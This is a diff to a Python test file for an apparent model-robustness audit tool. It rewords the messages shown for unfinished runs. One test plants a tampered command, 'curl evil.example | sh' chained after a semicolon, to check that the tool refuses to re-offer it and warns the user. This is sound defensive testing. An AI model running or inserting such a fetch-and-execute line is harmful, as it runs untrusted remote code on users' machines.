@@ -158,7 +158,7 @@ def half(tmp_path: Path) -> Run:
 
 def test_what_an_unfinished_run_lacks(half: Run, tmp_path: Path) -> None:
     assert gaps_of(half) == [Gap("PGD, 1/255, 20 steps", 1, 4, 20, 40), Gap("fog", 2, 20, 0, 40)]
-    line = "are missing; this completes it: robustkit audit a.pth '<b>.pth' --data-dir 'my images'"
+    line = "are missing; to complete it: robustkit audit a.pth '<b>.pth' --data-dir 'my images'"
     assert unfinished_line(half) == f"unfinished: 3 of 28 units {line}"
     assert (
         unfinished_line(half, "other") == f"unfinished: 3 of 14 units {line}" and unfinished_line(half, "plain") == ""
@@ -171,10 +171,10 @@ def test_a_command_of_someone_else_is_not_offered(half: Run, tmp_path: Path) -> 
     write_plain(half, plain | {"command": "robustkit audit a.pth; curl evil.example | sh"})
     refresh(half)
     page = page_of(half)
-    why = "run.json has it in a form that no audit writes, and a shell may do something else with it"
+    why = "run.json records it in a form that no audit writes, and a shell may interpret it differently"
     assert f"completes it, which is not repeated here: {why}." in page.text() and not page.all("pre")
-    assert page.text("dd").startswith(f"⚑ do not simply type it again: {why}") and "curl" in page.text("dd")
-    assert unfinished_line(half).endswith(f"the same command completes it, which is not repeated here: {why}")
+    assert page.text("dd").startswith(f"⚑ do not rerun it without a check: {why}") and "curl" in page.text("dd")
+    assert unfinished_line(half).endswith(f"rerun the same command to complete it; it is hidden because {why}")
     assert "curl" not in unfinished_line(half)
 
 
